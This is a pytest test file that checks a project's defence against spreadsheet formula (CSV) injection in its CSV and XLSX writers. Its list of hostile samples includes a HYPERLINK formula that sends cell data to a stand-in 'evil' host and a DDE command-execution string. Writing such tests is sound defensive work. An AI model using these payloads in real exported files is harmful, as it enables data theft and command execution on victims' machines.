"""The one defence against formula injection (OWASP "CSV Injection") that every CSV and Excel
writer of bonepath uses: text that starts with a formula sign is never a live formula."""

from __future__ import annotations

import datetime as dt
import io
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from bonepath.spreadsheet import FORMULA_SIGNS, csv_cell, csv_row, from_csv_cell, xlsx_value

HOSTILE = (
    '=HYPERLINK("http://evil/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
)


@pytest.mark.parametrize("text", HOSTILE)
def test_csv_cell_prefixes_a_quote_to_text_starting_with_a_formula_sign(text: str) -> None:
    assert csv_cell(text) == "'" + text
    assert from_csv_cell(csv_cell(text)) == text


def test_csv_cell_leaves_other_text_numbers_and_dates_alone() -> None:
    day = dt.date(2026, 1, 2)
    assert csv_row(["P0001", "a=b", "", -5, 2.5, day, None]) == [
        "P0001",
        "a=b",
        "",
        -5,
        2.5,
        day,
        None,
    ]
    assert from_csv_cell("'00123") == "'00123"  # a quote before an ordinary text is data


def test_every_formula_sign_of_owasp_is_covered() -> None:
    assert set("=+-@\t\r") <= set(FORMULA_SIGNS)


def test_xlsx_value_writes_text_as_a_string_cell_and_reads_back_unchanged() -> None:
    book = Workbook()
    sheet = book.active
    for row, text in enumerate([*HOSTILE, "#N/A", "bad\x01char"], start=1):
        xlsx_value(sheet.cell(row=row, column=1), text)
    xlsx_value(sheet.cell(row=1, column=2), -5)
    xlsx_value(sheet.cell(row=2, column=2), dt.date(2026, 1, 2))
    out = io.BytesIO()
    book.save(out)

    with zipfile.ZipFile(out) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")
    read = load_workbook(io.BytesIO(out.getvalue()))
    cells = [row[0] for row in read.active.iter_rows(max_col=1)]
    assert [cell.data_type for cell in cells] == ["s"] * (len(HOSTILE) + 2)
    # XML reads a carriage return back as a newline; every other character is kept
    expected = [text.replace("\r", "\n") for text in HOSTILE]
    assert [cell.value for cell in cells] == [*expected, "#N/A", "bad\ufffdchar"]
    assert all(cell.quotePrefix for cell in cells[: len(HOSTILE)])
    assert read.active["B1"].value == -5 and read.active["B1"].data_type == "n"
    assert read.active["B2"].value == dt.datetime(2026, 1, 2)
